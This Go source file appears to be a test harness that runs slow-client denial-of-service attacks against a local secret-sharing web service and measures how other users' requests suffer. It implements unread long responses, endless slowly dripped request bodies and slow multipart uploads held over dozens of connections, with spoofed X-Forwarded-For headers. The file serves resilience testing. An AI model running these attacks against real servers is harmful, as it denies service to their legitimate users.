package main

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os/exec"
	"strings"
	"sync"
	"time"
)

// attacker is the address of a client that holds what others need.
const attacker = "203.0.113.66"

// Lengths in bytes of what a recipient and a sender elsewhere need memory for.
const (
	shortText = 3 << 10
	longText  = 200_000
)

// A holding makes connections that each hold something: they send a request, and then a
// piece now and then, or read only the status of the answer.
type holding struct {
	connections int
	request     string
	piece       string        // empty: it sends no more, and reads nothing
	pause       time.Duration // before each piece
}

const (
	renewal = time.Second     // from the end of a connection to the next one in its place
	spread  = 6 * time.Second // over which they begin: while some renew, others wait for memory
)

// hold holds until ctx ends. A connection that is cut is made anew.
func (v *victim) hold(ctx context.Context, h holding) (end func()) {
	ctx, cancel := context.WithCancel(ctx)
	var all sync.WaitGroup
	for i := range h.connections {
		all.Go(func() {
			pause(ctx, spread*time.Duration(i)/time.Duration(h.connections))
			for ctx.Err() == nil {
				_ = v.holdOne(ctx, h) // it was cut
				pause(ctx, renewal)
			}
		})
	}
	return func() {
		cancel()
		all.Wait()
	}
}

// holdOne holds one connection until it is cut, or ctx ends.
func (v *victim) holdOne(ctx context.Context, h holding) error {
	var d net.Dialer
	c, err := d.DialContext(ctx, "tcp", v.address)
	if err != nil {
		return err
	}
	stop := context.AfterFunc(ctx, func() { _ = c.Close() })
	defer stop()
	defer c.Close()
	err = c.(*net.TCPConn).SetReadBuffer(2 << 10)
	if _, sent := c.Write([]byte(h.request)); sent != nil {
		err = sent
	}
	for err == nil && h.piece != "" {
		pause(ctx, h.pause)
		_, err = c.Write([]byte(h.piece))
	}
	status := make([]byte, len("HTTP/1.1 200"))
	if err == nil {
		_, err = io.ReadFull(c, status)
	}
	if err == nil && bytes.HasSuffix(status, []byte("200")) {
		pause(ctx, time.Minute) // the server's own limit, by default
	}
	return err
}

// raw is the head of a request of the attacker, and the begin of its body.
func raw(method, path, header, body string) string {
	return method + " " + path + " HTTP/1.1\r\nHost: box\r\nX-Forwarded-For: " + attacker + "\r\n" + header + "\r\n" + body
}

// beside measures requests of others: before the attack, and during it.
func beside(ctx context.Context, v *victim, span time.Duration, h holding, others map[string]asking) ([]line, error) {
	measure := func(when string, end <-chan time.Time) (lines []line) {
		for name, ask := range others {
			var t tries
			for t.number < usualTries && len(end) == 0 {
				t.add(ctx, ask)
				pause(ctx, rest)
			}
			lines = append(lines, line{name + ", " + when, t.String()})
		}
		return lines
	}
	lines := measure("usually", nil)
	end := v.hold(ctx, h)
	defer end()
	pause(ctx, spread+span/4)
	return append(lines, measure("during the attack", time.After(span))...), ctx.Err()
}

// unreadAnswers is a client that opens a long push, and reads nothing of it.
func unreadAnswers(ctx context.Context, v *victim, span time.Duration) ([]line, error) {
	long, err := v.push(ctx, attacker, strings.Repeat("\x01", 1_000_000), "") // six times as long in JSON
	if err != nil {
		return nil, err
	}
	short, err := v.push(ctx, recipient, strings.Repeat("x", shortText), "")
	if err != nil {
		return nil, err
	}
	h := holding{connections: 16, request: raw("GET", "/api/v2/pushes/"+long, "", "")}
	return beside(ctx, v, span, h, map[string]asking{
		"recipient elsewhere, 3 KiB": func(ctx context.Context) (int, error) {
			status, _, err := v.open(ctx, recipient, short, "")
			return status, err
		},
	})
}

// endlessBodies is a client whose bodies are long and never end.
func endlessBodies(ctx context.Context, v *victim, span time.Duration) ([]line, error) {
	text := `{"push":{"payload":"` + strings.Repeat("x", 330_000)
	h := holding{
		connections: 70, piece: "x", pause: time.Second,
		request: raw("POST", "/api/v2/pushes", "Content-Type: application/json\r\nContent-Length: 8000000\r\n", text),
	}
	return beside(ctx, v, span, h, map[string]asking{
		"sender elsewhere, 200 KB": func(ctx context.Context) (int, error) {
			status, _, err := v.create(ctx, recipient, strings.Repeat("x", longText), "")
			return status, err
		},
	})
}

// formOfFile is a form with a file, whose content and end are missing.
const formOfFile = "--b\r\nContent-Disposition: form-data; name=\"push[files][]\"; filename=\"f\"\r\n\r\n"

// slowAnswers is a client that has the link of one request, and sends files to it slowly.
func slowAnswers(ctx context.Context, v *victim, span time.Duration) ([]line, error) {
	own, err := v.request(ctx)
	if err != nil {
		return nil, err
	}
	other, err := v.request(ctx)
	if err != nil {
		return nil, err
	}
	h := holding{
		connections: 90, piece: strings.Repeat("x", 1500), pause: time.Second,
		request: raw("POST", own, "Content-Type: multipart/form-data; boundary=b\r\nContent-Length: 50000000\r\n", formOfFile+strings.Repeat("x", 70_000)),
	}
	return beside(ctx, v, span, h, map[string]asking{
		"sender elsewhere, a file to another request": func(ctx context.Context) (int, error) {
			status, _, err := v.do(ctx, ask{from: recipient, path: other, multipart: formOfFile + "x\r\n--b--\r\n"})
			return status, err
		},
	})
}

// request makes a request for a secret and returns the path of its link.
func (v *victim) request(ctx context.Context) (string, error) {
	token, err := v.token(ctx)
	if err != nil {
		return "", err
	}
	form := url.Values{"request[text]": {"x"}, "request[max_answers]": {"100"}}
	status, res, err := v.do(ctx, ask{path: "/api/v2/requests", form: form, header: http.Header{"Authorization": {"Bearer " + token}}})
	if err != nil || status != http.StatusCreated {
		return "", fmt.Errorf("request: status %d, %w", status, err)
	}
	var made struct {
		URL string `json:"html_url"`
	}
	err = json.NewDecoder(res.Body).Decode(&made)
	_, path, ok := strings.Cut(made.URL, "/q/")
	if err == nil && !ok {
		err = errors.New("the request has no link")
	}
	return "/q/" + path, err
}

// token returns an API token of an account, which it makes.
func (v *victim) token(ctx context.Context) (string, error) {
	const email = "ann@example.com"
	run := func(input string, args ...string) (string, error) {
		cmd := exec.CommandContext(ctx, v.cmd.Path, append(args, "--data-dir", v.data)...)
		cmd.Stdin, cmd.Env = strings.NewReader(input), plainEnviron()
		var said bytes.Buffer
		cmd.Stderr = &said
		out, err := cmd.Output()
		if err != nil {
			err = fmt.Errorf("%w: %s", err, said.String())
		}
		return strings.TrimSpace(string(out)), err
	}
	if v.secret != "" {
		return v.secret, nil
	}
	if _, err := run("correct horse battery\n", "user", "add", email, "--password-stdin"); err != nil {
		return "", err
	}
	var err error
	v.secret, err = run("", "token", "create", email)
	return v.secret, err
}
